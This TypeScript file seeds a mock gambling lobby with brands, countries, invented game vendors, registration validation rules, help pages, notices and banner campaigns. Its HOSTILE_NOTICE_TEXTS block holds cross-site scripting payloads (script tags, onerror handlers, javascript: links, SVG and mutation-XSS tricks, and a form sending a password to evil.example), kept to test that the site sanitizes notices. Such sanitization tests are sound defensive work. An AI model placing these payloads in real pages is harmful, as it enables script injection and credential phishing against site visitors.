import { PATTERN_IDS } from '../constants';
import type { BannerGroup, GameType, RegisterField, WhitelabelFlag } from '../constants';

/** The seeded brands (the seed step "merchants"); reset puts them back. */
export const SEED_MERCHANTS = [
  { code: 'aurora', name: 'Aurora' },
  { code: 'jade', name: 'Jade' },
  { code: 'ember', name: 'Ember' },
] as const;
export type SeedMerchant = (typeof SEED_MERCHANTS)[number]['code'];

export const COUNTRIES: readonly (readonly [code: string, dial: string, name: string])[] = [
  ['PH', '63', 'Philippines'],
  ['MY', '60', 'Malaysia'],
  ['TH', '66', 'Thailand'],
  ['VN', '84', 'Vietnam'],
  ['ID', '62', 'Indonesia'],
  ['IN', '91', 'India'],
  ['CN', '86', 'China'],
  ['SG', '65', 'Singapore'],
  ['KH', '855', 'Cambodia'],
  ['LA', '856', 'Laos'],
  ['MM', '95', 'Myanmar'],
  ['BD', '880', 'Bangladesh'],
  ['PK', '92', 'Pakistan'],
  ['NP', '977', 'Nepal'],
  ['LK', '94', 'Sri Lanka'],
  ['JP', '81', 'Japan'],
  ['KR', '82', 'South Korea'],
  ['TW', '886', 'Taiwan'],
  ['HK', '852', 'Hong Kong'],
  ['MO', '853', 'Macao'],
  ['AE', '971', 'United Arab Emirates'],
  ['SA', '966', 'Saudi Arabia'],
  ['TR', '90', 'Türkiye'],
  ['IR', '98', 'Iran'],
  ['RU', '7', 'Russia'],
  ['KZ', '7', 'Kazakhstan'],
  ['UZ', '998', 'Uzbekistan'],
  ['BR', '55', 'Brazil'],
  ['PT', '351', 'Portugal'],
  ['ES', '34', 'Spain'],
  ['FR', '33', 'France'],
  ['KE', '254', 'Kenya'],
  ['TZ', '255', 'Tanzania'],
  ['GB', '44', 'United Kingdom'],
  ['US', '1', 'United States'],
];

/**
 * The vendor catalogue: the spec's codes (esports AV, AI, IMES, TF, IA; cockfight DS88; lottery
 * TCG_LOTTO_VN, TCG_SEA, LOTT, ELOTT; sports FB, BTI) plus invented studios, so no real brand's
 * trademark is shown as if it were a partner.
 */
export const VENDORS: readonly (readonly [
  code: string,
  gameType: GameType,
  name: string,
  hot: 0 | 1,
])[] = [
  ['NOVA', 'RNG', 'Nova Slots', 1],
  ['LUMEN', 'RNG', 'Lumen Gaming', 1],
  ['ORBIT', 'RNG', 'Orbit Play', 0],
  ['KOI', 'RNG', 'Koi Studio', 1],
  ['TIGRIS', 'RNG', 'Tigris', 0],
  ['MANGO', 'RNG', 'Mango Reels', 0],
  ['PIXEL', 'RNG', 'Pixel Forge', 0],
  ['SAKURA', 'RNG', 'Sakura Spin', 0],
  ['ZENITH', 'RNG', 'Zenith', 0],
  ['COMET', 'RNG', 'Comet Reels', 0],
  ['RUBY', 'RNG', 'Ruby Works', 0],
  ['ATLAS', 'RNG', 'Atlas Interactive', 0],
  ['VELVET', 'LIVE', 'Velvet Live', 1],
  ['CROWN', 'LIVE', 'Crown Casino Live', 1],
  ['DEALR', 'LIVE', 'Dealr', 0],
  ['MARBLE', 'LIVE', 'Marble Hall', 0],
  ['BACCA', 'LIVE', 'Bacca Studio', 0],
  ['EVEN', 'LIVE', 'Even Money', 0],
  ['ROYAL', 'LIVE', 'Royal Table', 0],
  ['AMBER', 'LIVE', 'Amber Live', 0],
  ['REEF', 'FISH', 'Reef Hunter', 1],
  ['TIDE', 'FISH', 'Tide Games', 0],
  ['KRAKEN', 'FISH', 'Kraken', 0],
  ['CORAL', 'FISH', 'Coral Arcade', 0],
  ['HARPOON', 'FISH', 'Harpoon', 0],
  ['DUEL', 'PVP', 'Duel Room', 1],
  ['ARENA', 'PVP', 'Arena Cards', 0],
  ['TABLETOP', 'PVP', 'Tabletop', 0],
  ['RIVAL', 'PVP', 'Rival', 0],
  ['KINGS', 'PVP', 'Kings Court', 0],
  ['FB', 'SPORTS', 'FB Sports', 1],
  ['BTI', 'SPORTS', 'BTI Sports', 1],
  ['GOAL', 'SPORTS', 'Goal Line', 0],
  ['PITCH', 'SPORTS', 'Pitch Bet', 0],
  ['STADIA', 'SPORTS', 'Stadia', 0],
  ['AV', 'ESPORTS', 'AV Esports', 1],
  ['AI', 'ESPORTS', 'AI Esports', 0],
  ['IMES', 'ESPORTS', 'IM Esports', 1],
  ['TF', 'ESPORTS', 'TF Gaming', 0],
  ['IA', 'ESPORTS', 'IA Esports', 0],
  ['TCG_LOTTO_VN', 'LOTTERY', 'TCG Lotto VN', 1],
  ['TCG_SEA', 'LOTTERY', 'TCG SEA', 0],
  ['LOTT', 'LOTTERY', 'Lottery', 0],
  ['ELOTT', 'LOTTERY', 'E-Lottery', 1],
  ['DS88', 'COCKFIGHT', 'DS88', 1],
  ['SPUR', 'COCKFIGHT', 'Spur Arena', 0],
  ['DECK', 'CARD', 'Deck Masters', 1],
  ['SHUFFLE', 'CARD', 'Shuffle', 0],
  ['ACE', 'CARD', 'Ace High', 0],
  ['TRUMP', 'CARD', 'Trump Card', 0],
  ['JOKER', 'CARD', 'Joker House', 0],
  ['DICE', 'MINI', 'Dice Works', 1],
  ['PLINK', 'MINI', 'Plink', 0],
  ['CRASH', 'MINI', 'Crash Lab', 0],
  ['MINES', 'MINI', 'Mines', 0],
  ['VAULT', 'JACKPOT', 'Vault Jackpots', 1],
  ['MEGA', 'JACKPOT', 'Mega Pool', 0],
  ['PRIZE', 'JACKPOT', 'Prize Tower', 0],
  ['FORTUNE', 'JACKPOT', 'Fortune Wheel', 0],
  ['BONANZA', 'JACKPOT', 'Bonanza', 0],
];

/** How the 10,000 games split over the types: slots dominate, as in the spec's "nearly 10,000". */
export const GAMES_PER_TYPE: Readonly<Record<GameType, number>> = {
  RNG: 5200,
  LIVE: 900,
  FISH: 500,
  PVP: 600,
  SPORTS: 200,
  ESPORTS: 150,
  LOTTERY: 300,
  COCKFIGHT: 50,
  CARD: 900,
  MINI: 700,
  JACKPOT: 500,
};

export const GAME_WORDS = {
  adjectives: [
    'Golden',
    'Lucky',
    'Mystic',
    'Wild',
    'Royal',
    'Crystal',
    'Jade',
    'Blazing',
    'Frozen',
    'Ancient',
    'Cosmic',
    'Neon',
    'Silver',
    'Mighty',
    'Hidden',
    'Sacred',
    'Thunder',
    'Velvet',
    'Emerald',
    'Scarlet',
  ],
  nouns: [
    'Dragon',
    'Panda',
    'Tiger',
    'Phoenix',
    'Koi',
    'Temple',
    'Pharaoh',
    'Pirate',
    'Empire',
    'Jungle',
    'Galaxy',
    'Lotus',
    'Fortune',
    'Treasure',
    'Samurai',
    'Monkey',
    'Ocean',
    'Volcano',
    'Garden',
    'Carnival',
  ],
  suffixes: [
    '',
    '',
    '',
    ' Deluxe',
    ' Megaways',
    ' Hold & Win',
    ' 2',
    ' Rising',
    ' Reloaded',
    ' Gold',
  ],
  // Names per type read like what they are; slots use the word lists alone.
  typeWords: {
    LIVE: ['Baccarat', 'Roulette', 'Blackjack', 'Sic Bo', 'Dragon Tiger', 'Lobby'],
    FISH: ['Fishing', 'Hunter', 'Reef Shooter', 'Catch'],
    PVP: ['Poker', 'Mahjong', 'Rummy', 'Teen Patti', 'Big Two'],
    SPORTS: ['Sportsbook', 'Live Odds', 'Virtual Football', 'Parlay'],
    ESPORTS: ['Esports', 'MOBA Cup', 'Shooter League', 'Battle Royale'],
    LOTTERY: ['Lotto', 'Keno', '4D', 'Pick 3', 'Mega 6/45'],
    COCKFIGHT: ['Sabong', 'Derby', 'Pit Live'],
    CARD: ['Blackjack', 'Baccarat', 'Video Poker', 'Three Card', 'Pai Gow'],
    MINI: ['Crash', 'Mines', 'Plinko', 'Dice', 'Limbo', 'Hi-Lo'],
    JACKPOT: ['Jackpot', 'Mega Pot', 'Grand Prize', 'Cash Tower'],
  } satisfies Partial<Record<GameType, readonly string[]>>,
};

/** A whitelabel tree of the spec's flags: groups are containers, leaves are the toggles. */
export const WHITELABEL_TREE: readonly {
  modId: string;
  children: readonly WhitelabelFlag[];
}[] = [
  {
    modId: 'REGISTER3',
    children: ['DIRECTREG3', 'USERNAMEREG3', 'MOBILENUMREG3', 'MOBILENUMPASSREG3', 'REGMOBVERF3'],
  },
  { modId: 'LOGIN3', children: ['MOBILEVERCODELOGIN3', 'FREEPLAY3'] },
  { modId: 'SECURITY3', children: ['CHNGPASSVERIF3', 'PWDEXPFORCECHANGE3'] },
];

/** The flags each brand turns on; everything else is '0'. */
export const WHITELABEL_ON: Readonly<Record<SeedMerchant, readonly string[]>> = {
  // Username-only registration: the plainest brand.
  aurora: ['REGISTER3', 'LOGIN3', 'SECURITY3', 'DIRECTREG3', 'USERNAMEREG3', 'CHNGPASSVERIF3'],
  // Mobile-first: registration by phone with an SMS code, and SMS login.
  jade: [
    'REGISTER3',
    'LOGIN3',
    'SECURITY3',
    'DIRECTREG3',
    'USERNAMEREG3',
    'MOBILENUMREG3',
    'MOBILENUMPASSREG3',
    'REGMOBVERF3',
    'MOBILEVERCODELOGIN3',
  ],
  // Free play and a forced password change on expiry.
  ember: [
    'REGISTER3',
    'LOGIN3',
    'SECURITY3',
    'DIRECTREG3',
    'USERNAMEREG3',
    'FREEPLAY3',
    'PWDEXPFORCECHANGE3',
    'CHNGPASSVERIF3',
  ],
};

export interface FieldRuleSeed {
  enabled: boolean;
  required: boolean;
  minLength: number;
  maxLength: number;
  acceptedPattern: string;
  patternId: number;
}

const rule = (
  minLength: number,
  maxLength: number,
  acceptedPattern: string,
  patternId: number,
  enabled = false,
  required = false,
): FieldRuleSeed => ({ enabled, required, minLength, maxLength, acceptedPattern, patternId });

// Patterns compile with and without the `u` flag (the site may use either); `*` means any text.
const P = PATTERN_IDS;
export const BASE_RULES: Readonly<Record<RegisterField, FieldRuleSeed>> = {
  username: rule(6, 12, '^[A-Za-z][A-Za-z0-9]*$', P.letterFirstAlphanumeric, true, true),
  password: rule(
    8,
    20,
    '^(?=.*[a-z])(?=.*[A-Z])(?=.*[0-9])(?=.*[^A-Za-z0-9\\s])\\S+$',
    P.strongPassword,
    true,
    true,
  ),
  confirmPassword: rule(8, 20, '*', P.lengthOnly, true, true),
  mobileNum: rule(7, 15, '^[0-9]+$', P.digitsOnly),
  verificationCode: rule(4, 6, '^[0-9]+$', P.digitsOnly),
  payeeName: rule(2, 50, '^[A-Za-z]+( [A-Za-z]+)+$', P.fullNameWithSpace),
  paymentPassword: rule(6, 6, '^[0-9]+$', P.digitsOnly),
  qqNum: rule(5, 12, '^[0-9]+$', P.digitsOnly),
  line: rule(4, 20, '^\\S+$', P.noSpaces),
  whatsapp: rule(7, 15, '^[0-9]+$', P.digitsOnly),
  facebook: rule(5, 50, '^\\S+$', P.noSpaces),
  wechat: rule(6, 20, '^[A-Za-z][A-Za-z0-9_-]*$', P.letterFirstAlphanumeric),
  idNumber: rule(6, 18, '^[A-Za-z0-9]+$', P.lettersAndDigitsNoChinese),
  email: rule(6, 64, '^[^\\s@]+@[^\\s@]+\\.[^\\s@]+$', P.email),
  recommenderId: rule(4, 16, '^[A-Za-z0-9]+$', P.lettersAndDigitsNoChinese),
  affiliateCode: rule(4, 16, '^[A-Za-z0-9]+$', P.lettersAndDigitsNoChinese),
  captcha: rule(4, 4, '^[A-Za-z0-9]+$', P.lettersAndDigitsNoChinese, true, true),
};

/** Per-brand overrides of BASE_RULES: which optional fields show, and which are required. */
export const RULE_OVERRIDES: Readonly<
  Record<SeedMerchant, Partial<Record<RegisterField, Partial<FieldRuleSeed>>>>
> = {
  aurora: {
    email: { enabled: true },
    recommenderId: { enabled: true },
    affiliateCode: { enabled: true },
  },
  jade: {
    mobileNum: { enabled: true, required: true },
    verificationCode: { enabled: true, required: true },
    payeeName: { enabled: true, required: true },
    line: { enabled: true },
    affiliateCode: { enabled: true },
    // A brand that prefers short user names.
    username: { minLength: 5, maxLength: 10 },
  },
  ember: {
    payeeName: { enabled: true, required: true },
    paymentPassword: { enabled: true, required: true },
    qqNum: { enabled: true },
    whatsapp: { enabled: true },
    facebook: { enabled: true },
    wechat: { enabled: true },
    idNumber: { enabled: true },
    email: { enabled: true, required: true },
    affiliateCode: { enabled: true },
  },
};

export const HELP_SECTIONS: readonly { id: string; title: string; content: string }[] = [
  {
    id: 'about',
    title: 'About us',
    content:
      '<h2>About us</h2><p>We are a licensed operator offering casino, sports and lottery games. ' +
      'Play responsibly.</p>',
  },
  {
    id: 'term',
    title: 'Terms and conditions',
    content:
      '<h2>Terms and conditions</h2><ol><li>You must be 18 or older to register.</li>' +
      '<li>One account per person, household and device.</li>' +
      '<li>Bonuses carry wagering requirements stated on each promotion.</li>' +
      '<li>We may suspend accounts involved in fraud or collusion.</li></ol>',
  },
  {
    id: 'privacy',
    title: 'Privacy policy',
    content:
      '<h2>Privacy policy</h2><p>We keep only the data needed to run your account and meet our ' +
      'licence duties. We never sell it.</p>',
  },
  {
    id: 'deposit',
    title: 'How to deposit',
    content:
      '<h2>How to deposit</h2><p>Open <strong>My wallet</strong>, choose <em>Deposit</em>, pick a ' +
      'method and follow the steps. Funds arrive within minutes.</p>',
  },
  {
    id: 'withdraw',
    title: 'How to withdraw',
    content:
      '<h2>How to withdraw</h2><p>Withdrawals go to a bank account in your own name. Confirm receipt ' +
      'once the money arrives.</p>',
  },
  {
    id: 'responsible',
    title: 'Responsible gaming',
    content:
      '<h2>Responsible gaming</h2><p>Set deposit, loss and session limits, take a time-out, or ' +
      'exclude yourself at any time from <a href="/help#responsible">this page</a>.</p>',
  },
  {
    id: 'faq',
    title: 'FAQ',
    content:
      '<h2>FAQ</h2><dl><dt>I forgot my password</dt><dd>Use the forgot-password link in the login ' +
      'dialog.</dd><dt>Why is a game locked?</dt><dd>Some games need a real account.</dd></dl>',
  },
];

export const NOTICE_TEXTS: readonly { type: string; title: string; content: string }[] = [
  {
    type: 'PL',
    title: 'Welcome to the new lobby',
    content: '<p>Welcome! Explore <strong>10,000 games</strong> across every category.</p>',
  },
  {
    type: 'PL',
    title: 'Scheduled maintenance',
    content:
      '<p>Sports betting pauses on <time datetime="2026-02-01T02:00:00Z">1 February, 02:00 UTC</time> ' +
      'for about 30 minutes.</p>',
  },
  {
    type: 'H',
    title: 'New vendor: Nova Slots',
    content:
      '<p>Nova Slots joins the lobby with <em>40 new titles</em>.</p><ul><li>Megaways</li><li>Hold &amp; Win</li></ul>',
  },
  {
    type: 'B',
    title: 'Weekend reload bonus',
    content: '<p>Deposit on Saturday and get <b>20%</b> extra, up to 500.</p>',
  },
  {
    type: 'PU',
    title: 'Important security notice',
    content:
      '<p>We will never ask for your password. Report suspicious messages to ' +
      '<a href="https://support.example.com/report" target="_blank" rel="noopener">support</a>.</p>',
  },
  {
    type: 'PR',
    title: 'Refer a friend',
    content: '<p>Invite friends and earn <strong>5%</strong> of their first deposit.</p>',
  },
];

/**
 * Notices with hostile markup: the site must render them as harmless text and markup (SafeHtml +
 * DOMPurify). A notice comes from the operator's back office, which is exactly where an injected
 * payload lands. No brand is seeded with them, so no visitor reads them: the end-to-end journeys
 * and the tests add them to a brand through a dev control (POST /wps/dev/hostileNotices).
 */
export const HOSTILE_NOTICE_TEXTS: readonly { type: string; title: string; content: string }[] = [
  {
    type: 'PL',
    title: 'Hostile: script tag',
    content: '<p>Before</p><script>window.__pwned = "script"</script><p>After</p>',
  },
  {
    type: 'PL',
    title: 'Hostile: onerror handler',
    content: '<img src="x" onerror="window.__pwned=\'onerror\'"><p onclick="alert(1)">Click</p>',
  },
  {
    type: 'PU',
    title: 'Hostile: javascript link',
    content:
      '<a href="javascript:window.__pwned=\'href\'">Claim prize</a> ' +
      '<a href="JaVaScRiPt&#58;alert(1)">Encoded</a> <a href=" javascript:alert(1)">Spaced</a>',
  },
  {
    type: 'H',
    title: 'Hostile: SVG with script',
    content:
      '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned="svg"</script>' +
      '<circle r="10" onload="alert(1)"/><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  },
  {
    type: 'B',
    title: 'Hostile: style with expression',
    content:
      '<style>body{background:url("javascript:alert(1)")}</style>' +
      '<div style="width:expression(alert(1));background-image:url(javascript:alert(1))">Styled</div>',
  },
  {
    type: 'PR',
    title: 'Hostile: iframe and objects',
    content:
      '<iframe src="https://evil.example/phish" srcdoc="<script>alert(1)</script>"></iframe>' +
      '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">' +
      '<form action="https://evil.example/steal"><input name="password"></form>',
  },
  {
    type: 'PL',
    title: 'Hostile: <b>markup in a title</b> & entities',
    content:
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>' +
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' +
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  },
];

export interface BannerCampaign {
  /** The banner's title: the headline on the picture and the picture's alt text on the site. */
  headline: string;
  subline: string;
  callToAction: string;
}

const campaign = (headline: string, subline: string, callToAction: string): BannerCampaign => ({
  headline,
  subline,
  callToAction,
});

/**
 * What the banners advertise, per group: the hue its pictures start from and its campaigns, in the
 * order a brand shows them (each brand starts at a different one, so the three brands differ).
 * Groups with one banner (registration, password reset) have one campaign.
 */
export const BANNER_CAMPAIGNS: Readonly<
  Record<BannerGroup, { hue: number; campaigns: readonly BannerCampaign[] }>
> = {
  w_home: {
    hue: 268,
    campaigns: [
      campaign('Welcome Bonus 100%', 'Double your first deposit, up to 5,000', 'Join now'),
      campaign('Weekend Cashback 10%', 'Every Saturday and Sunday, on every game', 'Claim now'),
      campaign('Jackpot Fever: win 1,000,000', 'Progressive pools drop every hour', 'Play now'),
      campaign('Refer a Friend, Earn 5%', 'Of every friend’s first deposit', 'Invite'),
    ],
  },
  w_rng: {
    hue: 345,
    campaigns: [
      campaign('Jackpot Fever: win 1,000,000', 'Progressive slots drop every hour', 'Spin now'),
      campaign('100 Free Spins', 'On Golden Dragon Megaways this week', 'Get spins'),
      campaign('Slot Race: 50,000 Prize Pool', 'The top spinners share it every day', 'Join race'),
      campaign('New: Nova Slots', '40 fresh titles have just landed', 'Explore'),
    ],
  },
  w_live: {
    hue: 150,
    campaigns: [
      campaign('Live Baccarat Cashback 10%', 'Real dealers, real tables, 24/7', 'Take a seat'),
      campaign('Roulette Royale', 'Hit a straight up and win 500x', 'Play live'),
      campaign('VIP Tables Now Open', 'Higher limits, private dealers', 'Join table'),
      campaign('Blackjack Happy Hour', 'Double rewards from 8 to 10 pm', 'Play now'),
    ],
  },
  w_fish: {
    hue: 205,
    campaigns: [
      campaign('Reef Hunter Frenzy', 'Catch the golden shark for 300x', 'Start hunting'),
      campaign('Deep Sea Bounty', 'A boss fish surfaces every 10 minutes', 'Dive in'),
      campaign('Fishing Tournament', 'The biggest catch wins 20,000', 'Join now'),
      campaign('Double Coins Weekend', '2x rewards on every catch', 'Play now'),
    ],
  },
  w_pvp: {
    hue: 228,
    campaigns: [
      campaign('Poker Night Freeroll', '10,000 guaranteed every Friday', 'Register'),
      campaign('Mahjong Masters', 'Climb the table, win weekly prizes', 'Play now'),
      campaign('Rakeback 20%', 'On every pot you play', 'Claim now'),
      campaign('Teen Patti Tournament', 'The daily final starts at 9 pm', 'Join now'),
    ],
  },
  w_sports: {
    hue: 128,
    campaigns: [
      campaign('Matchday Boost +20%', 'Extra winnings on every parlay', 'Bet now'),
      campaign('Live Odds, Every Minute', 'Bet in-play on 1,000+ matches', 'Bet live'),
      campaign('First Bet Insurance', 'Lose it and get it back, up to 500', 'Claim now'),
      campaign('Virtual Football 24/7', 'A new match every 3 minutes', 'Watch now'),
    ],
  },
  w_esports: {
    hue: 276,
    campaigns: [
      campaign('Esports Cup: Free Bet 50', 'On the MOBA Cup group stage', 'Bet now'),
      campaign('Battle Royale Odds', 'Pick the last squad standing', 'Bet now'),
      campaign('Shooter League Live', 'In-play markets on every map', 'Watch now'),
      campaign('Esports Parlay Boost', '+15% on three picks or more', 'Claim now'),
    ],
  },
  w_lott: {
    hue: 305,
    campaigns: [
      campaign('Mega 6/45 Draw Tonight', 'The jackpot stands at 2,500,000', 'Pick numbers'),
      campaign('4D Lucky Numbers', 'Draws every day at 7 pm', 'Play 4D'),
      campaign('Fast Lotto Every Minute', 'No waiting: a new draw every 60 s', 'Play now'),
      campaign('Keno Double Up', 'Double prizes on 10-spot tickets', 'Play keno'),
    ],
  },
  w_down: {
    hue: 232,
    campaigns: [
      campaign('Get the App: 50 Free Spins', 'Play faster on iOS and Android', 'Download'),
      campaign('Your Lobby in Your Pocket', 'Instant deposits, one-tap login', 'Get the app'),
      campaign('App-only Cashback 5%', 'Every week, straight to your wallet', 'Download'),
      campaign('Never Miss a Jackpot', 'Alerts the moment a pool drops', 'Get the app'),
    ],
  },
  w_promotion: {
    hue: 12,
    campaigns: [
      campaign('Weekend Cashback 10%', 'Every loss refunded, up to 1,000', 'Claim now'),
      campaign('Reload Bonus 20%', 'Deposit on Saturday, get 20% more', 'Claim now'),
      campaign('Daily Lucky Wheel', 'One free spin a day for cash prizes', 'Spin now'),
      campaign('VIP Club Rewards', 'Level up for bigger bonuses', 'See levels'),
    ],
  },
  w_shop: {
    hue: 325,
    campaigns: [
      campaign('The Points Shop Is Open', 'Swap your points for real rewards', 'Shop now'),
      campaign('Double Points Week', 'Earn 2x points on every bet', 'Learn more'),
      campaign('Redeem Free Spins', 'From 500 points', 'Redeem'),
      campaign('Gadget Giveaway', 'Phones and headsets for top players', 'See prizes'),
    ],
  },
  w_help: {
    hue: 192,
    campaigns: [
      campaign('24/7 Support in Your Language', 'Chat with us any time', 'Chat now'),
      campaign('Play Responsibly', 'Set your limits any time', 'Set limits'),
      campaign('Fast Withdrawals', 'Most payouts arrive in minutes', 'Learn how'),
      campaign('Safe and Licensed', 'Your data and funds are protected', 'Read more'),
    ],
  },
  w_reg: {
    hue: 258,
    campaigns: [
      campaign('Join Today: 100% Bonus', 'Double your first deposit, up to 5,000', 'Sign up'),
    ],
  },
  w_forget: {
    hue: 210,
    campaigns: [campaign('Back in a Minute', 'Reset your password by SMS or e-mail', 'Reset now')],
  },
};
